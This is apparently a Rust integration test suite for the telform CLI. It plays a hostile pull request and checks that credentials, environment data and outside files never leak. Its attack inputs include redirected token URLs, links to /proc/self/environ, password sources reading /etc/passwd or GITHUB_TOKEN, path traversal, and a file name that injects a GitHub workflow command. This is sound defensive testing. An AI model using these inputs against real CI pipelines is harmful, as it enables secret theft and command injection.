//! The trust boundary (docs/security.md), tried as an attacker who controls a pull request: its
//! manifests, its `telform.yaml`, and files, links and FIFOs committed in the folder. A listener
//! on 127.0.0.2 stands for the attacker's server; the real binary runs every command a pull
//! request can trigger against a real emulator, with the credentials in the environment as CI
//! gives them (set, empty or unset). Nothing may reach the listener, and no secret, no byte of a
//! file outside the folder and nothing of the process environment may be printed.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use telform::emulator::seed;

use crate::stdout;

/// A value only the process environment holds: seeing it printed means the environment leaked.
const ENV_CANARY: &str = "canary-of-the-environment-5d1c9e";
/// The content of a file outside the manifest folder.
const OUTSIDE_CANARY: &str = "canary-outside-the-folder-7a2f41";

/// The attacker's server: it answers every request with `{}` and keeps what it was sent.
struct Listener {
    addr: SocketAddr,
    received: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Listener {
        let socket = TcpListener::bind("127.0.0.2:0").expect("bind 127.0.0.2");
        let addr = socket.local_addr().expect("address");
        let received = Arc::new(Mutex::new(Vec::new()));
        let seen = received.clone();
        std::thread::spawn(move || {
            for stream in socket.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut bytes = vec![0; 65536];
                let n = stream.read(&mut bytes).unwrap_or(0);
                seen.lock()
                    .expect("listener")
                    .push(String::from_utf8_lossy(&bytes[..n]).into_owned());
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}",
                );
            }
        });
        Listener { addr, received }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn requests(&self) -> Vec<String> {
        self.received.lock().expect("listener").clone()
    }
}

/// How CI gives a credential variable the attack wants telform to ignore.
#[derive(Debug, Clone, Copy)]
enum Given {
    /// GitHub's value for a secret that is not defined.
    Empty,
    Unset,
}

/// The real binary in `dir`, with only the environment given (plus PATH and the canary).
fn run(dir: &Path, env: &[(String, String)], args: &[&str]) -> Output {
    let mut cmd = assert_cmd::Command::cargo_bin("telform").expect("binary");
    cmd.current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("NO_COLOR", "1")
        .env("HOSTILE_CANARY", ENV_CANARY)
        .timeout(Duration::from_secs(60));
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.args(args).output().expect("runs")
}

fn everything(output: &Output) -> String {
    format!("{}{}", stdout(output), String::from_utf8_lossy(&output.stderr))
}

/// No credential, no canary, in what a command printed.
fn assert_nothing_secret(shown: &str, env: &[(String, String)], what: &str) {
    for (name, value) in env {
        if name.ends_with("SECRET") || name.ends_with("TOKEN") {
            assert!(
                !shown.contains(value.as_str()),
                "{what}: the value of {name} is shown:\n{shown}"
            );
        }
    }
    assert!(
        !shown.contains(ENV_CANARY),
        "{what}: the environment is shown:\n{shown}"
    );
    assert!(
        !shown.contains(OUTSIDE_CANARY),
        "{what}: a file outside the folder is shown:\n{shown}"
    );
    assert!(!shown.contains("panicked"), "{what}: {shown}");
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("folder");
    std::fs::write(path, text).expect("written");
}

const ACCOUNT: &str = "apiVersion: telform/v1
kind: Account
metadata: {name: hostile}
spec:
  services:
    directRouting: {enabled: true}
";

/// A Webex customer with one workspace and one device whose password comes from `source`.
fn device_with_password(source: &str) -> String {
    format!(
        "apiVersion: telform/v1
kind: Template
metadata: {{name: fr-smb-calling}}
spec:
  provisioningId: Y2lzY29zcGFyazovL3VzL1BST1ZJU0lPTklORy9mcl9zbWI
  country: FR
  language: fr_FR
  subscription: Sub-104233
  authentication: webex
  calling: {{timezone: Europe/Paris, language: fr_fr}}
---
apiVersion: telform/v1
kind: Customer
metadata: {{name: hostile}}
spec:
  template: fr-smb-calling
  externalId: HOSTILE-0001
  companyName: Hostile SARL
  adminEmail: it-admin@hostile.example
  country: FR
  supportedLocationVerified: true
  packages: [webex_calling, common_area_calling]
  headquarters:
    name: Paris HQ
    address: {{line1: 12 rue de la Paix, city: Paris, postalCode: \"75002\", country: FR}}
    timezone: Europe/Paris
    language: fr_fr
---
apiVersion: telform/v1
kind: Workspace
metadata: {{name: hostile-room}}
spec:
  customer: HOSTILE-0001
  name: Salle Hostile
  roomType: meetingRoom
  capacity: 8
  license: professional
  location: Paris HQ
  extension: \"1900\"
---
apiVersion: telform/v1
kind: Device
metadata: {{name: hostile-phone}}
spec:
  customer: HOSTILE-0001
  mac: \"00:1A:2B:3C:4D:99\"
  model: Yealink T54W
  owner: {{workspace: Salle Hostile}}
  sipPassword: {source}
"
    )
}

/// The commands a pull request's CI run performs on the folder, in every output format.
const PULL_REQUEST_COMMANDS: &[&[&str]] = &[
    &["validate", "manifests"],
    &["validate", "--output", "json", "manifests"],
    &["validate", "--output", "github", "manifests"],
    &["plan", "manifests"],
    &["plan", "--output", "json", "manifests"],
    &[
        "plan",
        "--output",
        "markdown",
        "--detailed-exitcode",
        "-o",
        "plan.json",
        "manifests",
    ],
];

/// The environment of a CI job pointed at the emulator, with `attacked` given as `given`.
fn ci_env(emulator_env: &[(String, String)], attacked: &[&str], given: Given) -> Vec<(String, String)> {
    let mut env: Vec<(String, String)> = emulator_env
        .iter()
        .filter(|(k, _)| !attacked.contains(&k.as_str()))
        .cloned()
        .collect();
    if let Given::Empty = given {
        env.extend(attacked.iter().map(|k| (k.to_string(), String::new())));
    }
    env
}

#[test]
fn the_folder_s_telform_yaml_cannot_send_a_credential_elsewhere() {
    let listener = Listener::start();
    let (_runtime, _emulator, emulator_env) = crate::emulator_on_runtime(seed::demo(), "");
    // (the folder's telform.yaml, the variables CI leaves empty or unset for it to fill in)
    let attacks: Vec<(String, &[&str])> = vec![
        (
            format!("acg: {{tokenUrl: {}}}\n", listener.url("/t")),
            &["TELFORM_ACG_TOKEN_URL"],
        ),
        (
            format!("acg: {{url: {}}}\n", listener.url("/acg")),
            &["TELFORM_ACG_URL"],
        ),
        (
            format!("acg: {{tenant: \"x@{}\"}}\n", listener.addr),
            &["TELFORM_ACG_TOKEN_URL", "TELFORM_ACG_TENANT"],
        ),
        (
            format!(
                "webex: {{url: {}, token: {{fromEnv: HOSTILE_CANARY}}}}\n",
                listener.url("/webex/v1")
            ),
            &["TELFORM_WEBEX_URL"],
        ),
        ("webex: {token: {fromEnv: TELFORM_ACG_CLIENT_SECRET}}\n".into(), &[]),
        ("acg: {clientSecret: {fromEnv: HOSTILE_CANARY}}\n".into(), &[]),
    ];
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(&dir.join("manifests/acg/hostile.yaml"), ACCOUNT);
    for (settings, attacked) in &attacks {
        write(
            &dir.join("manifests/telform.yaml"),
            &format!("apiVersion: telform/v1\n{settings}"),
        );
        for given in [Given::Empty, Given::Unset] {
            let env = ci_env(&emulator_env, attacked, given);
            for args in PULL_REQUEST_COMMANDS {
                let what = format!("{settings:?} with {attacked:?} {given:?}, telform {}", args.join(" "));
                let output = run(dir, &env, args);
                let shown = everything(&output);
                assert_eq!(output.status.code(), Some(1), "{what}: {shown}");
                assert!(shown.contains("TF027"), "{what}: not refused by name:\n{shown}");
                assert_nothing_secret(&shown, &env, &what);
                assert!(!dir.join("plan.json").exists(), "{what}: a plan was saved");
            }
        }
    }
    assert_eq!(
        listener.requests(),
        Vec::<String>::new(),
        "the attacker's server was called"
    );

    // The same endpoint from the operator's settings file, outside the folder, is followed: the
    // listener does see what telform sends where it is told to (this test can fail).
    write(&dir.join("manifests/telform.yaml"), "apiVersion: telform/v1\n");
    let operator = dir.join("operator.yaml");
    write(
        &operator,
        &format!("apiVersion: telform/v1\nacg: {{url: {}}}\n", listener.url("/acg")),
    );
    let env = ci_env(&emulator_env, &["TELFORM_ACG_URL"], Given::Empty);
    let output = run(dir, &env, &["plan", "--settings", "operator.yaml", "manifests"]);
    assert!(
        !listener.requests().is_empty(),
        "the operator's endpoint was not used: {}",
        everything(&output)
    );
}

#[test]
fn an_operator_settings_file_inside_the_checkout_is_not_trusted() {
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(&dir.join("repo/.git/HEAD"), "ref: refs/heads/main\n");
    write(&dir.join("repo/manifests/acg/hostile.yaml"), ACCOUNT);
    write(
        &dir.join("repo/ops/settings.yaml"),
        "apiVersion: telform/v1\nacg: {url: http://127.0.0.2:9/acg}\n",
    );
    write(
        &dir.join("repo/manifests/settings.yaml"),
        "apiVersion: telform/v1\nacg: {url: http://127.0.0.2:9/acg}\n",
    );
    for settings in ["repo/ops/settings.yaml", "repo/manifests/settings.yaml"] {
        for how in ["flag", "env"] {
            let output = match how {
                "flag" => run(dir, &[], &["validate", "--settings", settings, "repo/manifests"]),
                _ => run(
                    dir,
                    &[("TELFORM_SETTINGS".into(), settings.into())],
                    &["validate", "repo/manifests"],
                ),
            };
            let shown = everything(&output);
            assert_eq!(output.status.code(), Some(1), "{settings} by {how}: {shown}");
            assert!(shown.contains("inside the checkout"), "{settings} by {how}: {shown}");
            assert!(shown.contains("hint:"), "{settings} by {how}: {shown}");
        }
    }
}

/// A committed link to the process environment, a link to a file outside the folder and a FIFO:
/// each refused by name (TF011) and never read, in every format, by every command.
#[test]
fn links_out_of_the_folder_and_fifos_are_refused_unread() {
    let (_runtime, _emulator, emulator_env) = crate::emulator_on_runtime(seed::demo(), "");
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    let outside = dir.join("outside.yaml");
    write(
        &outside,
        &format!("apiVersion: telform/v1\nkind: Account\nmetadata: {{name: {OUTSIDE_CANARY}}}\nspec: [\n"),
    );
    write(&dir.join("manifests/acg/hostile.yaml"), ACCOUNT);
    std::os::unix::fs::symlink("/proc/self/environ", dir.join("manifests/acg/zz.yaml")).expect("link");
    std::os::unix::fs::symlink(&outside, dir.join("manifests/acg/leak.yaml")).expect("link");
    std::os::unix::fs::symlink("../../outside.yaml", dir.join("manifests/acg/relative.yaml")).expect("link");
    let fifo = dir.join("manifests/acg/pipe.yaml");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo");
    assert!(made.success());
    // A link that stays inside the folder is an ordinary file.
    std::os::unix::fs::symlink("hostile.yaml", dir.join("manifests/acg/same.yml")).expect("link");

    for args in PULL_REQUEST_COMMANDS.iter().copied().chain([
        &["fmt", "--check", "manifests"][..],
        &["watch", "--once", "--output", "json", "manifests"],
    ]) {
        let what = format!("telform {}", args.join(" "));
        let output = run(dir, &emulator_env, args);
        let shown = everything(&output);
        assert_eq!(output.status.code(), Some(1), "{what}: {shown}");
        assert_nothing_secret(&shown, &emulator_env, &what);
        if args[0] != "fmt" {
            for entry in ["zz.yaml", "leak.yaml", "relative.yaml", "pipe.yaml"] {
                assert!(shown.contains(entry), "{what}: {entry} is not named:\n{shown}");
            }
            assert!(shown.contains("TF011"), "{what}: {shown}");
        }
    }
    let json = run(dir, &emulator_env, &["validate", "--output", "json", "manifests"]);
    let found: Vec<serde_json::Value> = serde_json::from_str(&stdout(&json)).expect("JSON diagnostics");
    let refused: Vec<&str> = found
        .iter()
        .filter(|d| d["code"] == "TF011")
        .filter_map(|d| d["file"].as_str())
        .collect();
    assert_eq!(refused.len(), 4, "{found:?}");

    // `fmt` writes nothing through a link: the outside file is as it was.
    let before = std::fs::read_to_string(&outside).expect("outside");
    let _ = run(dir, &emulator_env, &["fmt", "manifests"]);
    assert_eq!(std::fs::read_to_string(&outside).expect("outside"), before);
}

#[test]
fn sip_password_sources_outside_the_boundary_are_refused_by_validate_and_plan() {
    let (_runtime, _emulator, emulator_env) = crate::emulator_on_runtime(seed::demo(), "");
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(&dir.join("outside.sip"), OUTSIDE_CANARY);
    let secrets = dir.join("manifests/secrets");
    std::fs::create_dir_all(&secrets).expect("secrets");
    std::os::unix::fs::symlink(dir.join("outside.sip"), secrets.join("link.sip")).expect("link");
    // Green in the pull request, then pointed outside once the target appears: refused now.
    std::os::unix::fs::symlink(dir.join("later.sip"), secrets.join("dangling.sip")).expect("link");
    std::os::unix::fs::symlink(dir.join("elsewhere"), dir.join("manifests/vault")).expect("link");
    let cases = [
        ("{fromFile: /etc/passwd}", "TF185"),
        ("{fromFile: ../outside.sip}", "TF185"),
        ("{fromFile: secrets/link.sip}", "TF185"),
        ("{fromFile: secrets/dangling.sip}", "TF185"),
        ("{fromFile: vault/desk.sip}", "TF185"),
        ("{fromFile: 'C:\\secrets\\desk.sip'}", "TF185"),
        ("{fromEnv: TELFORM_ACG_CLIENT_SECRET}", "TF186"),
        ("{fromEnv: TELFORM_WEBEX_TOKEN}", "TF186"),
        ("{fromEnv: GITHUB_TOKEN}", "TF186"),
        ("{fromEnv: ACTIONS_RUNTIME_TOKEN}", "TF186"),
        ("{fromEnv: HOSTILE_CANARY}", "TF186"),
    ];
    for (source, code) in cases {
        write(&dir.join("manifests/webex/hostile.yaml"), &device_with_password(source));
        for args in PULL_REQUEST_COMMANDS {
            let what = format!("sipPassword: {source}, telform {}", args.join(" "));
            let output = run(dir, &emulator_env, args);
            let shown = everything(&output);
            assert_eq!(output.status.code(), Some(1), "{what}: {shown}");
            assert!(shown.contains(code), "{what}: {shown}");
            assert_nothing_secret(&shown, &emulator_env, &what);
        }
    }
}

/// A saved plan is a file a person could edit between plan and apply: apply refuses it (the
/// manifests no longer give that plan, and the source of every password is checked again before
/// any is read: `apply::secrets`' own test), and reads nothing.
#[test]
fn apply_of_a_saved_plan_edited_to_read_a_credential_writes_nothing() {
    let (_runtime, _emulator, emulator_env) = crate::emulator_on_runtime(seed::demo(), "");
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(
        &dir.join("manifests/webex/hostile.yaml"),
        &device_with_password("{fromEnv: HOSTILE_DESK_SIP_PASSWORD}"),
    );
    let mut env = emulator_env.clone();
    env.push(("HOSTILE_DESK_SIP_PASSWORD".into(), "Desk-Passw0rd-4471".into()));
    let planned = run(dir, &env, &["plan", "-o", "plan.json", "manifests"]);
    assert_eq!(planned.status.code(), Some(0), "{}", everything(&planned));
    let saved = std::fs::read_to_string(dir.join("plan.json")).expect("plan.json");
    assert!(saved.contains("HOSTILE_DESK_SIP_PASSWORD"), "{saved}");
    assert!(!saved.contains("Desk-Passw0rd-4471"), "{saved}");
    // Nothing created: the plan is still the creation of everything.
    let still_to_create = || {
        let again = run(dir, &env, &["plan", "manifests"]);
        let text = stdout(&again);
        text.contains("+ Customer HOSTILE-0001") && text.contains("+ Device 001A2B3C4D99")
    };
    assert!(still_to_create(), "{}", stdout(&planned));
    for credential in ["TELFORM_ACG_CLIENT_SECRET", "HOSTILE_CANARY"] {
        std::fs::write(
            dir.join("edited.json"),
            saved.replace("HOSTILE_DESK_SIP_PASSWORD", credential),
        )
        .expect("edited");
        let output = run(dir, &env, &["apply", "--auto-approve", "edited.json"]);
        let shown = everything(&output);
        assert_eq!(output.status.code(), Some(1), "{credential}: {shown}");
        assert_nothing_secret(&shown, &env, credential);
        assert!(still_to_create(), "{credential}: something was created: {shown}");
    }
}

#[test]
fn plan_out_replaces_a_committed_link_instead_of_writing_through_it() {
    let (_runtime, _emulator, emulator_env) = crate::emulator_on_runtime(seed::demo(), "");
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(&dir.join("manifests/acg/hostile.yaml"), ACCOUNT);
    let victim = dir.join("victim.txt");
    write(&victim, "the runner's own file\n");
    std::os::unix::fs::symlink(&victim, dir.join("plan.json")).expect("link");
    let output = run(dir, &emulator_env, &["plan", "-o", "plan.json", "manifests"]);
    assert_eq!(output.status.code(), Some(0), "{}", everything(&output));
    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "the runner's own file\n"
    );
    let saved = std::fs::symlink_metadata(dir.join("plan.json")).expect("plan.json");
    assert!(saved.file_type().is_file(), "plan.json is still a link");
}

/// `demo DIR` writes throwaway passwords for `fromFile` devices: never outside its scratch
/// folder, whatever the manifests say.
#[test]
fn demo_of_a_hostile_folder_writes_nothing_outside_it() {
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    for (name, source) in [
        ("climbs", "{fromFile: secrets/../../../escaped.sip}"),
        ("absolute", "{fromFile: /tmp/telform-hostile-escaped.sip}"),
    ] {
        let folder = dir.join(name);
        write(&folder.join("webex/hostile.yaml"), &device_with_password(source));
        let output = run(dir, &[], &["demo", name]);
        let shown = everything(&output);
        assert_eq!(output.status.code(), Some(1), "{name}: {shown}");
        assert!(shown.contains("TF185"), "{name}: {shown}");
    }
    assert!(!dir.join("escaped.sip").exists());
    assert!(!PathBuf::from("/tmp/telform-hostile-escaped.sip").exists());
    let left: Vec<_> = std::fs::read_dir(dir)
        .expect("temp dir")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(left.len(), 2, "{left:?}");
}

/// The delete guard is the operator's: a pull request that raises `apply.maxDeletes` in the
/// folder's `telform.yaml` does not lift the limit the operator's settings file sets.
#[test]
fn the_operator_s_delete_limit_wins_over_the_folder_s() {
    let (_runtime, _emulator, emulator_env) = crate::emulator_on_runtime(seed::demo(), "");
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    let copied = std::process::Command::new("cp")
        .args(["-r"])
        .arg(crate::root().join("examples"))
        .arg(dir.join("manifests"))
        .status()
        .expect("cp");
    assert!(copied.success());
    write(
        &dir.join("manifests/telform.yaml"),
        "apiVersion: telform/v1\napply: {maxDeletes: 100000}\n",
    );
    write(
        &dir.join("operator.yaml"),
        "apiVersion: telform/v1\napply: {maxDeletes: 1}\n",
    );
    let mut env = emulator_env.clone();
    env.push(("ACME_JUPITER_TABLE_SIP_PASSWORD".into(), "Jupiter-Passw0rd-1".into()));
    let folder_alone = run(dir, &env, &["plan", "manifests"]);
    assert_eq!(folder_alone.status.code(), Some(0), "{}", everything(&folder_alone));
    let output = run(dir, &env, &["plan", "--settings", "operator.yaml", "manifests"]);
    let shown = everything(&output);
    assert_eq!(output.status.code(), Some(1), "{shown}");
    assert!(shown.contains("more than the limit of 1"), "{shown}");
}

/// The manifest folder is confinement's reference: a pull request that replaces the folder the
/// workflow names with a link (`manifests -> ../outside`) must not move it.
#[test]
fn a_manifest_folder_that_is_a_committed_link_is_not_read() {
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(
        &dir.join("outside/config.yaml"),
        &format!("apiVersion: telform/v1\nkind: Account\nmetadata: {{name: x}}\nspec:\n  host: {OUTSIDE_CANARY}\n"),
    );
    write(&dir.join("repo/.git/HEAD"), "ref: refs/heads/main\n");
    std::os::unix::fs::symlink("../outside", dir.join("repo/manifests")).expect("link");
    let repo = dir.join("repo");
    let absolute = repo.join("manifests").display().to_string();
    let absolute_file = repo.join("manifests/config.yaml").display().to_string();
    for (cwd, args) in [
        (&repo, vec!["validate", "manifests"]),
        (&repo, vec!["validate", "--output", "github", "manifests"]),
        (&repo, vec!["validate", "manifests/config.yaml"]),
        (&repo, vec!["plan", "--output", "json", "manifests"]),
        (&repo, vec!["watch", "--once", "manifests"]),
        (&dir.to_path_buf(), vec!["validate", absolute.as_str()]),
        (&dir.to_path_buf(), vec!["validate", absolute_file.as_str()]),
    ] {
        let what = format!("telform {}", args.join(" "));
        let output = run(cwd, &[], &args);
        let shown = everything(&output);
        assert_eq!(output.status.code(), Some(1), "{what}: {shown}");
        assert!(shown.contains("TF011"), "{what}: {shown}");
        assert!(shown.contains("symbolic link inside the checkout"), "{what}: {shown}");
        assert_nothing_secret(&shown, &[], &what);
    }
}

/// A file name is the committer's choice: one holding a newline must not put a line of its own
/// into the output (on GitHub, a line starting with `::` is a workflow command).
#[test]
fn a_file_name_cannot_start_a_line_of_the_output() {
    let temp = tempfile::tempdir().expect("temp dir");
    let dir = temp.path();
    write(
        &dir.join("manifests/acg/x\n::warning title=INJECTED::from a file name\n.yaml"),
        "apiVersion: telform/v1\nkind: Account\n",
    );
    for format in ["text", "json", "github"] {
        let output = run(dir, &[], &["validate", "--output", format, "manifests"]);
        let shown = everything(&output);
        assert_eq!(output.status.code(), Some(1), "{format}: {shown}");
        assert!(shown.contains("INJECTED"), "{format}: the file is not named: {shown}");
        assert!(
            !shown.lines().any(|l| l.trim_start().starts_with("::warning")),
            "{format}: a line was injected: {shown}"
        );
    }
    let output = run(dir, &[], &["plan", "manifests"]);
    let shown = everything(&output);
    assert!(
        !shown.lines().any(|l| l.trim_start().starts_with("::warning")),
        "{shown}"
    );
}
